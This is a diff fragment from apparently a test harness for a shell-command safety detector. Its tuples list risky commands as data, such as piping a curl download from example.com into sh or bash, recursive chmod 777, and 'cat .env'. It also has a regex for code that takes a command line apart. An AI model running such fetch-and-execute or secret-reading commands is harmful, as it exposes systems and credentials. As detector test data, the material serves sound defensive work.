@@ -52,7 +52,7 @@ _EACH = (
     ("curl -s example.com | sh", "curl -s example.com | bash"), ("chmod 777 x", "chmod -R 777 x"), ("cat .env",),
 )  # fmt: skip
 _BEHIND = "cd x && "  # what every command may stand behind
-_NEUTRAL = "cp -a notes/a.txt build/b_2; echo 'all of it'"  # what fits this says nothing
+_NEUTRAL = "cp -a notes/a.txt build/b_2; echo 'all of it'; bash a.sh"  # what fits this says nothing
 # one that takes the line apart, or rewrites it, sees more than its patterns
 _TAKES_APART = late(
     r"\bshlex\b|\bsplit\b|\bIFS=|\bread -r?a\b|\b(?:gsub|sub|replace|replaceAll)\(|\$\{\w+//"
